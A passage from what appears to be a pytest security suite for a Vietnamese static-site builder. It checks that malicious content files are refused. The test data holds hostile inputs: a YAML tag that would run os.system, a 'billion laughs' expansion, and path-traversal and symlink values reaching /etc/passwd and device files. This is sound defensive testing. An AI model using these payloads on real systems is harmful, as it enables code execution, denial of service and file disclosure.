"""A hostile editor: every way a source file can try to break the build, escape the content
tree, smuggle a file or a script onto the site, or leak what is not published.

Most cases only load the content (``content.load``: what ``danvan check`` runs); the site is
built only where its bytes must be scanned, once per module-scoped fixture:

* ``gate_site``: which files of content/ the site publishes, Open Graph image URLs;
* ``leaky_site`` (with a bulletin issue): canaries planted in everything unpublished;
* ``injected_site`` (with a bulletin issue): an HTML payload in every free-text field;
* ``embedding``: a bulletin article that tries to embed a file from outside the project
  (built only for the variants that ``content.load`` does not already refuse).

Tests that can hang on a broken implementation (a FIFO read, a "billion laughs" YAML) load
the content in a child process with a time and memory limit.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import gzip
import hashlib
import http.server
import io
import json
import os
import posixpath
import re
import shutil
import stat
import subprocess
import sys
import threading
import zipfile
from pathlib import Path
from types import SimpleNamespace

import lxml.etree
import lxml.html
import pikepdf
import pytest
import yaml
from builders import REPO, Project, article, document, pdf, png, tree
from PIL import Image

from danvan import content
from danvan.build import build_site
from danvan.problems import Problem

TODAY = dt.date(2026, 11, 27)
SITE_URL = "https://danvan.hungyen.example/"
DANVAN = REPO / ".venv" / "bin" / "danvan"
# A message is Vietnamese when it has Vietnamese letters (every one of ours has some).
VIETNAMESE = re.compile("[àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ]",
                        re.I)


# --- Sources ------------------------------------------------------------------------------------


def front(fields: dict[str, str], body: str = "Nội dung.\n") -> str:
    head = "\n".join(f"{k}: {v}" for k, v in fields.items() if v is not None)
    return f"---\n{head}\n---\n\n{body}"


def guidance(title: str, date: str = "2024-05-02", **fields: str) -> str:
    values = {"title": f'"{title}"', "date": date, "field": "dan-van-chinh-quyen",
              "status": "published", "visibility": "public"}
    values.update(fields)
    return front(values, f"Nội dung hướng dẫn {title}.\n")


def page(title: str, **fields: str) -> str:
    values = {"title": f'"{title}"', "status": "published"}
    values.update(fields)
    return front(values, f"Nội dung trang {title}.\n")


def model(title: str = "Mô hình thử", **fields: str | None) -> str:
    values: dict[str, str | None] = {
        "title": f'"{title}"', "date": "2020-05-01", "unit": '"Chi hội Nông dân thôn (minh họa)"',
        "localities": '["huyện Khoái Châu"]', "field": "kinh-te", "year_started": "2018",
        "year_recognised": "2019", "level": "huyen", "goals": '"Mục tiêu."',
        "method": '"Cách làm."', "participants": '"Hội viên."', "results": '"Kết quả."',
        "replication": '"Cách nhân rộng."',
        "photos": '[{file: anh-1.jpg, alt: "Cánh đồng lúa", caption: "Cánh đồng (minh họa)"}]',
        "status": "published",
    }
    values.update(fields)
    return front(values, "")


def issue(number: int, sections: list[tuple[str, list[str]]], date: str = "2026-10-15",
          cover: str = "anh/bia.jpg", status: str = "published", extra: str = "",
          body: str = "Lời tòa soạn của số thử.\n", cover_extra: str = "") -> str:
    lines = [f"number: {number}", "year: 2026", f"date: {date}", "trim: a4", "cover:",
             f"  image: {cover}", '  alt: "Tranh minh họa cánh đồng"',
             '  caption: "Cánh đồng (tranh minh họa)"', "  illustrative: true"]
    lines += [line for line in cover_extra.splitlines() if line]
    lines.append("sections:")
    for title, paths in sections:
        lines += [f"  - title: {title}", "    articles:"] + [f"      - {p}" for p in paths]
    lines += ["colophon:", "  responsible: Trưởng ban", "  editorial_board: [Thành viên A]",
              "  print_run: 300", "  licence: Giấy phép số 1/GP", "  printer: Cơ sở in thử",
              f"status: {status}"]
    return "---\n" + "\n".join(lines) + "\n" + extra + "---\n\n" + body


# --- Files ----------------------------------------------------------------------------------------


def jpeg(tag: str = "", size=(64, 48), color=(120, 170, 215)) -> bytes:
    image = Image.new("RGB", size, color)
    image.paste((92, 160, 70), (0, size[1] // 2, size[0], size[1]))
    buffer = io.BytesIO()
    extra = {"comment": tag.encode()} if tag else {}
    image.save(buffer, "JPEG", quality=85, **extra)
    return buffer.getvalue()


def docx(tag: str = "") -> bytes:
    """A minimal Word file (a ZIP archive); stored, not deflated, so ``tag`` stays readable."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"><Default Extension="xml" '
                         'ContentType="application/xml"/></Types>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://'
                         'schemas.openxmlformats.org/package/2006/relationships"/>')
        archive.writestr("word/document.xml", f"<w:document><w:t>{tag}</w:t></w:document>")
    return buffer.getvalue()


def cover(project: Project, rel: str = "bulletins/2026/anh/bia.jpg", tag: str = "",
          size=(2600, 1700)) -> None:
    project.write(rel, jpeg(tag or rel, size))


def add_model(project: Project, folder: str, photo: str = "anh-1.jpg", **fields) -> None:
    project.write(f"models_gallery/{folder}/index.md", model(**fields))
    project.write(f"models_gallery/{folder}/{photo}", jpeg(folder, (800, 533)))


# --- Loading and problems ----------------------------------------------------------------------


def load(project: Project):
    return content.load(project.root, TODAY)


def errors(project: Project) -> list[Problem]:
    return list(load(project).collector.errors)


def listing(problems) -> str:
    return "\n".join(str(p) for p in problems) or "(không có lỗi nào)"


def _field_matches(actual: str, wanted: str) -> bool:
    return actual == wanted or actual.startswith((wanted + ".", wanted + "[", wanted + " "))


def find(problems, path: str | None = None, *, exact_path: str | None = None,
         field: str | None = None, words=(), line=None) -> Problem:
    """The first problem naming ``path`` (in its text) with the field, words and line asked
    for (``line`` an int or a container of ints); fails listing them all."""
    for problem in problems:
        text = str(problem)
        if path is not None and path not in text:
            continue
        if exact_path is not None and problem.path != exact_path:
            continue
        if field is not None and not _field_matches(problem.field, field):
            continue
        if any(word not in text for word in words):
            continue
        if line is not None:
            lines = line if isinstance(line, (range, set, list, tuple)) else {line}
            if problem.line not in lines:
                continue
        assert_vietnamese(problem)
        return problem
    pytest.fail(f"không có lỗi nào khớp (path={path or exact_path}, field={field}, "
                f"words={words}, line={line}); các lỗi:\n{listing(problems)}")


def assert_vietnamese(problem: Problem) -> None:
    text = str(problem)
    assert text.startswith(("Lỗi – ", "Cảnh báo – ")), text
    assert VIETNAMESE.search(problem.message), f"not a Vietnamese message: {text}"
    assert "Traceback" not in text, text


def line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.split("\n"), 1) if needle in line)


def with_body(head: str, snippet: str) -> tuple[str, range]:
    """``head`` (a whole source) + ``snippet``, and the lines the snippet takes in the file."""
    head = head if head.endswith("\n") else head + "\n"
    head += "\n"
    start = head.count("\n") + 1
    return head + snippet + "\n", range(start, start + snippet.count("\n") + 1)


CHILD = r"""
import json, resource, sys, time, datetime as dt
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from danvan import content
started = time.perf_counter()
corpus = content.load(Path(sys.argv[1]), dt.date(2026, 11, 27))
seconds = time.perf_counter() - started
print(json.dumps({"seconds": seconds, "problems": [
    {"path": p.path, "field": p.field, "line": p.line, "warning": p.warning, "text": str(p)}
    for p in corpus.problems]}))
"""


def load_in_child(project: Project, timeout: float = 60) -> SimpleNamespace:
    """``content.load`` in another process, with a memory limit and a timeout (a FIFO read
    or an exploding YAML must not take the test run with it)."""
    try:
        done = subprocess.run([sys.executable, "-c", CHILD, str(project.root)],
                              capture_output=True, text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        pytest.fail(f"content.load did not return within {timeout} s")
    assert done.returncode == 0, f"content.load raised:\n{done.stderr[-3000:]}"
    result = json.loads(done.stdout.strip().splitlines()[-1])
    problems = [Problem(p["path"], p["text"].split(": ", 2)[-1], "", p["field"], p["line"],
                        p["warning"]) for p in result["problems"]]
    texts = [p["text"] for p in result["problems"]]
    return SimpleNamespace(seconds=result["seconds"], problems=problems, texts=texts,
                           errors=[t for t, p in zip(texts, result["problems"])
                                   if not p["warning"]])


def build(project: Project, out: str = "site") -> tuple[int, str]:
    """build_site, with what it printed on stderr."""
    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        code = build_site(project.root, Path("mkdocs.yml"), Path(out), TODAY)
    return code, err.getvalue()


def use_bulletin_cache(project: Project, cache: Path) -> None:
    config = project.root / "mkdocs.yml"
    text = config.read_text("utf-8")
    assert "  - danvan\n" in text
    config.write_text(text.replace("  - danvan\n",
                                   f"  - danvan:\n      bulletin_cache_dir: {cache}\n"), "utf-8")


@pytest.fixture(scope="module")
def bulletin_cache(tmp_path_factory) -> Path:
    """A bulletin cache with the merged fonts already made (they take a while)."""
    from danvan.bulletin.fonts import merged_faces

    fonts = REPO / ".cache" / "bulletins"
    merged_faces(REPO, fonts)
    cache = tmp_path_factory.mktemp("bulletin-cache")
    (cache / "fonts").symlink_to(fonts / "fonts")
    return cache


def run(*args: str) -> str:
    return subprocess.run(args, capture_output=True, text=True, errors="replace").stdout


def pdf_texts(path: Path) -> list[bytes]:
    """What a PDF says in every form a reader could get at: pdftotext, pdfinfo (with XMP),
    the names of its embedded files, and every string and decompressed stream in it."""
    chunks = [run("pdftotext", str(path), "-").encode(), run("pdfinfo", str(path)).encode(),
              run("pdfinfo", "-meta", str(path)).encode(),
              run("pdfdetach", "-list", str(path)).encode()]
    def strings(value, top: bool = False):
        # Direct values at any depth (a link's /A /URI sits two dictionaries down); an
        # indirect object is reached on its own from document_.objects.
        if not top and getattr(value, "is_indirect", False):
            return
        if isinstance(value, pikepdf.String):
            chunks.append(str(value).encode())
        elif isinstance(value, (pikepdf.Dictionary, pikepdf.Stream)):
            for key in list(value.keys()):
                with contextlib.suppress(Exception):
                    strings(value[key])
        elif isinstance(value, pikepdf.Array):
            for element in value:
                strings(element)

    with pikepdf.open(path) as document_:
        for obj in document_.objects:
            if isinstance(obj, pikepdf.Stream):
                with contextlib.suppress(Exception):
                    chunks.append(obj.read_bytes())
            strings(obj, top=True)
    return chunks


def output_blob(*folders: Path) -> bytes:
    """Every byte published: files (gzip decompressed), their names, and PDFs as text."""
    chunks = []
    for folder in folders:
        if not folder.exists():
            continue
        for path in sorted(folder.rglob("*")):
            chunks.append(str(path.relative_to(folder)).encode())
            if not path.is_file():
                continue
            data = path.read_bytes()
            chunks.append(gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data)
            if data[:5] == b"%PDF-":
                chunks += pdf_texts(path)
    return b"\n".join(chunks)


def embedded_files(path: Path) -> int:
    out = run("pdfdetach", "-list", str(path))
    m = re.match(r"\s*(\d+) embedded files", out)
    assert m, f"pdfdetach: {out!r}"
    return int(m.group(1))


# =================================================================================================
# YAML and encoding
# =================================================================================================


class TestYamlAndEncoding:
    @pytest.mark.parametrize("fields, needle", [
        ({"localities": "&dv [huyện Văn Lâm]", "tags": "*dv"}, "*dv"),
        ({"summary": '&tom "Tóm tắt"', "author": "*tom"}, "&tom"),
        ({"tags": "&chi [dân vận]"}, "&chi"),  # an anchor alone is refused too
    ], ids=["alias", "anchor-and-alias", "anchor-alone"])
    def test_anchors_and_aliases_are_errors_at_their_line(self, project, fields, needle):
        text = article("Bài có neo", **fields)
        project.write("content/tin-tuc/neo.md", text)
        lines = {n for n, line in enumerate(text.split("\n"), 1) if "&" in line or "*" in line}
        find(errors(project), "content/tin-tuc/neo.md", line=lines)

    def test_merge_key_is_an_error(self, project):
        """Sections written with a merge key: valid once expanded, refused all the same."""
        cover(project)
        project.write("content/tin-tuc/2026/a.md", article("Bài A", date="2026-06-01"))
        project.write("content/tin-tuc/2026/b.md", article("Bài B", date="2026-06-01"))
        text = issue(1, [("Một", ["content/tin-tuc/2026/a.md"])])
        text = text.replace("  - title: Một\n", "  - &mot\n    title: Một\n").replace(
            "colophon:", "  - <<: *mot\n    title: Hai\n    articles:\n"
                         "      - content/tin-tuc/2026/b.md\ncolophon:")
        project.write("bulletins/2026/so-01.md", text)
        lines = {n for n, line in enumerate(text.split("\n"), 1) if "&mot" in line or "*mot" in line}
        find(errors(project), "bulletins/2026/so-01.md", line=lines)

    def test_billion_laughs_is_refused_quickly(self, project):
        lol = ['lol0: &a0 ["hì"]'] + [
            f"lol{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 10)]
        text = ("---\n" + "\n".join(lol) + '\ntitle: "Cười"\ndate: 2024-05-01\n'
                "section: hoat-dong\nstatus: published\ntags: *a9\n---\n\nNội dung.\n")
        project.write("content/tin-tuc/cuoi.md", text)
        result = load_in_child(project, timeout=60)
        assert result.seconds < 5, f"content.load took {result.seconds:.1f} s"
        assert any("content/tin-tuc/cuoi.md:" in e for e in result.errors), result.errors

    @pytest.mark.parametrize("text, key, line", [
        ('---\ntitle: "Một"\ndate: 2024-05-01\ntitle: "Hai"\nsection: hoat-dong\n'
         "status: published\n---\n\nNội dung.\n", "title", 4),
        ('---\ntitle: "Một"\ndate: 2024-05-01\nsection: hoat-dong\nstatus: published\n'
         "status: draft\n---\n\nNội dung.\n", "status", 6),
    ], ids=["title", "status"])
    def test_duplicate_key_is_an_error_naming_key_and_line(self, project, text, key, line):
        project.write("content/tin-tuc/trung.md", text)
        find(errors(project), "content/tin-tuc/trung.md", words=(key,), line=line)

    def test_duplicate_key_in_a_nested_mapping(self, project):
        cover(project)
        project.write("content/tin-tuc/2026/a.md", article("Bài A", date="2026-06-01"))
        text = issue(1, [("Một", ["content/tin-tuc/2026/a.md"])],
                     cover_extra='  alt: "Mô tả thứ hai"')
        project.write("bulletins/2026/so-01.md", text)
        second = [n for n, line in enumerate(text.split("\n"), 1) if line.startswith("  alt:")][1]
        find(errors(project), "bulletins/2026/so-01.md", words=("alt",), line=second)

    def test_bom_is_a_warning_and_the_file_still_loads(self, project):
        project.write("content/tin-tuc/bom.md", b"\xef\xbb\xbf" + article("Bài có BOM").encode())
        corpus = load(project)
        assert corpus.collector.errors == [], listing(corpus.collector.errors)
        warning = find([p for p in corpus.collector.problems if p.warning],
                       "content/tin-tuc/bom.md", words=("BOM",))
        assert warning.warning
        (item,) = corpus.items
        assert item.title == "Bài có BOM" and item.published

    def test_bom_file_builds(self, project):
        project.write("content/tin-tuc/bom.md", b"\xef\xbb\xbf" + article("Bài có BOM").encode())
        code, err = build(project)
        assert code == 0, err
        assert "Bài có BOM" in (project.root / "site/tin-tuc/bom/index.html").read_text("utf-8")

    def test_unclosed_front_matter_says_so(self, project):
        project.write("content/tin-tuc/mo.md", '---\ntitle: "Bài chưa đóng"\ndate: 2024-05-01\n'
                                               "section: hoat-dong\nstatus: published\n\nNội dung.\n")
        problem = find(errors(project), "content/tin-tuc/mo.md", words=("---",))
        assert "đóng" in problem.message, str(problem)

    @pytest.mark.parametrize("data", [
        article("Bài \udcff").encode("utf-8", "surrogateescape"),
        b"\xff\xfe" + article("Bài UTF-16").encode("utf-16-le"),
        b'---\ntitle: "D\xe2n v\xe2n"\ndate: 2024-05-01\nsection: hoat-dong\nstatus: published\n'
        b"---\n\nN\xf4i dung.\n",
    ], ids=["stray-byte", "utf-16", "legacy-8-bit"])
    def test_text_that_is_not_utf8_is_an_error(self, project, data):
        project.write("content/tin-tuc/ma.md", data)
        find(errors(project), "content/tin-tuc/ma.md", words=("UTF",))

    def test_data_file_that_is_not_utf8_is_an_error(self, project):
        path = project.root / "content/_du-lieu/co-quan.yml"
        path.write_bytes(path.read_bytes().replace("Dân vận Hưng Yên".encode(),
                                                   b"D\xe2n v\xe2n H\xfcng Y\xean", 1))
        find(errors(project), "content/_du-lieu/co-quan.yml", words=("UTF",))

    def test_file_name_that_is_not_utf8(self, project):
        folder = project.root / "content" / "tin-tuc"
        folder.mkdir(parents=True)
        with open(os.fsencode(folder) + b"/b\xe0i.md", "wb") as handle:
            handle.write(article("Tên tệp lạ").encode())
        problems = errors(project)
        assert problems, "a file name that is not UTF-8 must be reported"
        for problem in problems:
            str(problem).encode("utf-8")  # printable: no lone surrogate in the report

    @pytest.mark.parametrize("text", [
        "---\n- title\n- date\n---\n\nNội dung.\n",
        "---\nchỉ một dòng chữ\n---\n\nNội dung.\n",
        "---\n---\n\nNội dung.\n",
        "",
        "\ufeff",
        "---\n",
    ], ids=["list", "scalar", "empty-front-matter", "empty-file", "only-bom", "only-dashes"])
    def test_front_matter_of_the_wrong_shape_is_an_error(self, project, text):
        project.write("content/tin-tuc/hinh.md", text.encode("utf-8"))
        find(errors(project), "content/tin-tuc/hinh.md")

    def test_python_tags_are_never_run(self, project, tmp_path):
        marker = tmp_path / "da-chay"
        project.write("content/tin-tuc/tag.md", article(
            "Bài", summary=f'!!python/object/apply:os.system ["touch {marker}"]'))
        find(errors(project), "content/tin-tuc/tag.md")
        assert not marker.exists()

    def test_deep_nesting_is_an_error_not_a_crash(self, project):
        project.write("content/tin-tuc/sau.md", article("Bài", tags="[" * 5000 + "]" * 5000))
        find(errors(project), "content/tin-tuc/sau.md")

    def test_tab_indentation_is_an_error(self, project):
        project.write("content/tin-tuc/tab.md",
                      '---\ntitle: "Bài"\n\tdate: 2024-05-01\nsection: hoat-dong\n'
                      "status: published\n---\n\nNội dung.\n")
        find(errors(project), "content/tin-tuc/tab.md")

    def test_nul_in_front_matter_is_an_error(self, project):
        project.write("content/tin-tuc/nul.md", article("Bài \x00 rỗng").encode())
        find(errors(project), "content/tin-tuc/nul.md")

    def test_windows_line_endings_are_fine(self, project):
        project.write("content/tin-tuc/crlf.md",
                      article("Bài CRLF").replace("\n", "\r\n").encode())
        assert errors(project) == []


# =================================================================================================
# Wrong values
# =================================================================================================

WRONG_VALUES = [
    # (id, source path, text, field)
    ("date-month-13", "content/tin-tuc/x.md", article("X", date="2016-13-45"), "date"),
    ("date-words", "content/tin-tuc/x.md", article("X", date='"hôm qua"'), "date"),
    ("date-year-10000", "content/tin-tuc/x.md", article("X", date="10000-01-01"), "date"),
    ("date-infinity", "content/tin-tuc/x.md", article("X", date=".inf"), "date"),
    ("status-capital", "content/tin-tuc/x.md", article("X", status="Published"), "status"),
    ("visibility", "content/tin-tuc/x.md", article("X", visibility="secret"), "visibility"),
    ("title-null", "content/tin-tuc/x.md", article("X").replace('title: "X"', "title: null"),
     "title"),
    ("title-blank", "content/tin-tuc/x.md", article("   "), "title"),
    ("title-list", "content/tin-tuc/x.md", article("X").replace('title: "X"', "title: [a, b]"),
     "title"),
    ("tags-mapping", "content/tin-tuc/x.md", article("X", tags="{a: 1}"), "tags"),
    ("illustrative", "content/tin-tuc/x.md", article("X", illustrative='"có"'), "illustrative"),
    ("image-number", "content/tin-tuc/x.md", article("X", image="123", image_alt='"Ảnh"'),
     "image"),
    ("slug-climbs", "content/tin-tuc/x.md", article("X", slug='"../../etc"'), "slug"),
    ("slug-vietnamese", "content/tin-tuc/x.md", article("X", slug='"Tin Tức"'), "slug"),
    ("unknown-unicode-key", "content/tin-tuc/x.md", article("X", **{"tiêu_đề": '"Y"'}),
     "tiêu_đề"),
    ("classification-case", "content/van-ban/x.md",
     document("02-ĐA/TU", classification="UNCLASSIFIED"), "classification"),
    ("classification-missing", "content/van-ban/x.md",
     document("02-ĐA/TU").replace("classification: unclassified\n", ""), "classification"),
    ("number-garbage", "content/van-ban/x.md", document("không số"), "number"),
    ("attachment-list", "content/van-ban/x.md", document("02-ĐA/TU", attachment="[a.pdf, b.pdf]"),
     "attachment"),
    ("page-weight", "content/gioi-thieu/x.md", page("X", weight='"nhẹ"'), "weight"),
    ("page-lang", "content/gioi-thieu/x.md", page("X", lang="fr"), "lang"),
    ("page-layout", "content/gioi-thieu/x.md", page("X", layout="evil"), "layout"),
    ("model-year", "models_gallery/x/index.md", model(year_started='"hai nghìn"'), "year_started"),
    ("model-photos-string", "models_gallery/x/index.md", model(photos="anh-1.jpg"), "photos"),
    ("model-figure-label", "models_gallery/x/index.md", model(figures="[{value: 1}]"), "figures"),
    ("guidance-field", "content/huong-dan/x.md", guidance("X", field="khong-co"), "field"),
]


class TestWrongValues:
    @pytest.mark.parametrize("path, text, field", [w[1:] for w in WRONG_VALUES],
                             ids=[w[0] for w in WRONG_VALUES])
    def test_wrong_value_is_an_error_naming_field_and_line(self, project, path, text, field):
        project.write(path, text)
        if path.startswith("models_gallery/"):
            project.write(str(Path(path).parent / "anh-1.jpg"), jpeg("x", (800, 533)))
        key = field.split(".")[0]
        line = next((n for n, l in enumerate(text.split("\n"), 1) if l.startswith(f"{key}:")),
                    None)
        problem = find(errors(project), exact_path=path, field=field)
        if line is not None:
            assert problem.line == line, str(problem)

    @pytest.mark.parametrize("fields", [{"number": "0"}, {"number": "-1"}, {"date": "2026-02-30"}],
                             ids=["number-0", "number-negative", "date-30-feb"])
    def test_wrong_issue_values(self, project, fields):
        cover(project)
        project.write("content/tin-tuc/2026/a.md", article("Bài A", date="2026-06-01"))
        text = issue(1, [("Một", ["content/tin-tuc/2026/a.md"])])
        for key, value in fields.items():
            text = re.sub(rf"^{key}: .*$", f"{key}: {value}", text, count=1, flags=re.M)
        project.write("bulletins/2026/so-01.md", text)
        (key,) = fields
        find(errors(project), exact_path="bulletins/2026/so-01.md", field=key,
             line=line_of(text, f"{key}: "))

    def test_icelandic_eth_in_a_locality_resolves_like_d_with_stroke(self, project):
        project.write("content/tin-tuc/eth.md", article("Bài", localities="[huyện Ðông Hưng]"))
        corpus = load(project)
        assert corpus.collector.errors == [], listing(corpus.collector.errors)
        (item,) = corpus.items
        assert [unit.id for _, unit in item.localities] == ["huyen-dong-hung"]

    @pytest.mark.parametrize("written, cited", [("02-ÐA/TU", "02-ĐA/TU"), ("02-ĐA/TU", "02-ÐA/TU")],
                             ids=["number-with-eth", "reference-with-eth"])
    def test_icelandic_eth_in_a_document_number_resolves(self, project, written, cited):
        project.write("content/van-ban/de-an.md", document(written))
        project.write("content/tin-tuc/dan.md", article("Bài dẫn", documents=f'["{cited}"]'))
        corpus = load(project)
        assert corpus.collector.errors == [], listing(corpus.collector.errors)
        doc = corpus.by_source["content/van-ban/de-an.md"]
        assert [d.source for d in corpus.by_source["content/tin-tuc/dan.md"].documents] == [
            doc.source]
        assert doc.url == "van-ban/02-da-tu-2016/"


# =================================================================================================
# Paths that escape the tree
# =================================================================================================

OUTSIDE = "../../../../../../../../../../etc/passwd"
ESCAPES = [
    # (id, source, field, value)
    ("image-absolute", "article", "image", "/etc/passwd"),
    ("image-climbs-to-root", "article", "image", OUTSIDE),
    ("image-climbs-to-project", "article", "image", "../../mkdocs.yml"),
    ("image-climbs-to-models", "article", "image", "../../models_gallery/mh/anh-1.jpg"),
    ("image-https", "article", "image", "https://evil.example/x.jpg"),
    ("image-protocol-relative", "article", "image", "//evil.example/x.jpg"),
    ("image-file-url", "article", "image", "file:///etc/passwd"),
    ("image-data-url", "article", "image", "data:image/png;base64,iVBORw0KGgo="),
    ("image-windows-path", "article", "image", "C:\\Windows\\win.ini"),
    ("image-folder", "article", "image", "anh"),
    ("image-nul", "article", "image", "anh/a\x00.png"),
    ("image-name-too-long", "article", "image", "anh/" + "x" * 5000 + ".png"),
    ("guidance-image-absolute", "guidance", "image", "/etc/passwd"),
    ("attachment-absolute", "document", "attachment", "/etc/passwd"),
    ("attachment-climbs", "document", "attachment", "../../../../../../../../etc/hostname"),
    ("attachment-https", "document", "attachment", "https://evil.example/a.pdf"),
    ("attachment-device", "document", "attachment", "/dev/zero"),
    ("cover-climbs-out-of-bulletins", "bulletin", "cover", "../../content/tin-tuc/anh/a.jpg"),
    ("cover-absolute", "bulletin", "cover", "/etc/passwd"),
    ("cover-https", "bulletin", "cover", "https://evil.example/bia.jpg"),
    ("photo-in-another-bundle", "model", "photos", "../mh/anh-1.jpg"),
    ("photo-absolute", "model", "photos", "/etc/passwd"),
    ("photo-https", "model", "photos", "https://evil.example/a.jpg"),
    ("photo-climbs-to-content", "model", "photos", "../../content/tin-tuc/anh/a.jpg"),
]


def _escaping_source(project: Project, kind: str, field: str, value: str) -> tuple[str, str]:
    """Write a valid item of ``kind`` whose ``field`` is ``value``; (source, text)."""
    quoted = json.dumps(value)
    project.write("content/tin-tuc/anh/a.jpg", jpeg("a"))
    project.write("content/huong-dan/anh/a.jpg", jpeg("h"))
    (project.root / "content/tin-tuc/anh/con").mkdir(parents=True, exist_ok=True)
    add_model(project, "mh")
    if kind == "article":
        source, text = "content/tin-tuc/x.md", article("X", image=quoted, image_alt='"Ảnh"')
    elif kind == "guidance":
        source, text = "content/huong-dan/x.md", guidance("X", image=quoted, image_alt='"Ảnh"')
    elif kind == "document":
        source, text = "content/van-ban/x.md", document("02-ĐA/TU", attachment=quoted)
    elif kind == "bulletin":
        project.write("content/tin-tuc/2026/a.md", article("Bài A", date="2026-06-01"))
        source = "bulletins/2026/so-01.md"
        text = issue(1, [("Một", ["content/tin-tuc/2026/a.md"])], cover=quoted)
    else:
        source = "models_gallery/khac/index.md"
        text = model(photos=f'[{{file: {quoted}, alt: "Ảnh"}}]')
    project.write(source, text)
    return source, text


def _symlink_case(project: Project, case: str, tmp: Path) -> str:
    """Set up one symlink case; returns the name the error must mention."""
    outside = tmp / "ngoai"
    outside.mkdir(exist_ok=True)
    (outside / "anh.jpg").write_bytes(jpeg("ngoai", (800, 533)))
    (outside / "bai.md").write_text(article("Bài ở ngoài"), "utf-8")
    (outside / "mh").mkdir(exist_ok=True)
    (outside / "mh" / "index.md").write_text(model(), "utf-8")
    (outside / "mh" / "anh-1.jpg").write_bytes(jpeg("mh", (800, 533)))
    tin = project.root / "content/tin-tuc"
    (tin / "anh").mkdir(parents=True, exist_ok=True)
    project.write("content/tin-tuc/a.md", article("Bài A"))
    if case == "image-to-etc":
        (tin / "anh/lk-passwd.jpg").symlink_to("/etc/passwd")
        project.write("content/tin-tuc/a.md", article("Bài A", image="anh/lk-passwd.jpg",
                                                      image_alt='"Ảnh"'))
        return "lk-passwd.jpg"
    if case == "image-inside-tree":
        (tin / "anh/that.png").write_bytes(png("that"))
        (tin / "anh/lk-trong.png").symlink_to("that.png")
        project.write("content/tin-tuc/a.md", article("Bài A", image="anh/lk-trong.png",
                                                      image_alt='"Ảnh"'))
        return "lk-trong.png"
    if case == "unreferenced":
        (tin / "lk-le").symlink_to("/etc/passwd")
        return "lk-le"
    if case == "folder":
        (tin / "lk-thu-muc").symlink_to("/etc", target_is_directory=True)
        return "lk-thu-muc"
    if case == "markdown-file":
        (tin / "lk-bai.md").symlink_to(outside / "bai.md")
        return "lk-bai.md"
    if case == "dangling":
        (tin / "lk-mat-tich.pdf").symlink_to("/khong/co/tep/nay.pdf")
        return "lk-mat-tich.pdf"
    if case == "loop":
        (tin / "lk-vong-a").symlink_to("lk-vong-b")
        (tin / "lk-vong-b").symlink_to("lk-vong-a")
        return "lk-vong-"
    if case == "in-drafts-folder":
        (tin / "_nhap").mkdir()
        (tin / "_nhap/lk-nhap").symlink_to("/etc/passwd")
        return "lk-nhap"
    if case == "data-file":
        data = project.root / "content/_du-lieu/co-quan.yml"
        shutil.move(data, outside / "co-quan.yml")
        data.symlink_to(outside / "co-quan.yml")
        return "co-quan.yml"
    if case == "model-photo":
        project.write("models_gallery/mh/index.md", model())
        (project.root / "models_gallery/mh/anh-1.jpg").symlink_to(outside / "anh.jpg")
        return "anh-1.jpg"
    if case == "model-folder":
        (project.root / "models_gallery").mkdir(exist_ok=True)
        (project.root / "models_gallery/lk-mo-hinh").symlink_to(outside / "mh",
                                                                target_is_directory=True)
        return "lk-mo-hinh"
    if case == "bulletin-cover":
        project.write("content/tin-tuc/2026/b.md", article("Bài B", date="2026-06-01"))
        (project.root / "bulletins/2026/anh").mkdir(parents=True)
        (project.root / "bulletins/2026/anh/lk-bia.jpg").symlink_to(outside / "anh.jpg")
        project.write("bulletins/2026/so-01.md", issue(1, [("Một", ["content/tin-tuc/2026/b.md"])],
                                                       cover="anh/lk-bia.jpg"))
        return "lk-bia.jpg"
    raise AssertionError(case)


SYMLINK_CASES = ["image-to-etc", "image-inside-tree", "unreferenced", "folder", "markdown-file",
                 "dangling", "loop", "in-drafts-folder", "data-file", "model-photo",
                 "model-folder", "bulletin-cover"]


class TestPathEscapes:
    @pytest.mark.parametrize("kind, field, value", [e[1:] for e in ESCAPES],
                             ids=[e[0] for e in ESCAPES])
    def test_file_outside_its_tree_is_an_error(self, project, kind, field, value):
        source, text = _escaping_source(project, kind, field, value)
        line = None if kind == "model" else line_of(text, f"{field}:")
        if kind == "bulletin":  # the cover: line or its image: line
            line = range(line, line + 2)
        find(errors(project), exact_path=source, field=field, line=line)

    @pytest.mark.parametrize("snippet", [
        "[mật khẩu](../../../../../../../../etc/passwd)",
        "[mật khẩu][r]\n\n[r]: ../../../../../../../../etc/passwd",
        '<a href="../../../../../../../../etc/passwd">mật khẩu</a>',
        "<img src='../../../../../../../../etc/passwd' alt='x'>",
        '<img src="anh/a.png" srcset="../../../../../../../../etc/passwd 2x" alt="x">',
        "[cấu hình](../../mkdocs.yml)",
        "![logo](../../theme/assets/images/logo.svg)",
    ], ids=["markdown-link", "reference-link", "a-href", "img-src-single-quotes", "srcset",
            "project-file", "theme-file"])
    def test_body_link_out_of_content_is_an_error(self, project, snippet):
        project.write("content/tin-tuc/anh/a.png", png("a"))
        text, lines = with_body(article("Bài có liên kết"), snippet)
        project.write("content/tin-tuc/lk.md", text)
        find(errors(project), exact_path="content/tin-tuc/lk.md", line=lines)

    def test_links_inside_content_and_to_the_web_are_fine(self, project):
        project.write("content/tin-tuc/anh/a.png", png("a"))
        project.write("content/van-ban/tep/a.pdf", pdf("a"))
        project.write("content/van-ban/de-an.md", document("02-ĐA/TU"))
        project.write("content/tin-tuc/khac.md", article("Bài khác"))
        body = ("[Đề án](../van-ban/de-an.md) và [bài khác](khac.md#muc), "
                "[tệp](../van-ban/tep/a.pdf), ![Ảnh](anh/a.png), "
                "[trang ngoài](https://example.com/a?b=c#d), [thư](mailto:lienhe@example.invalid), "
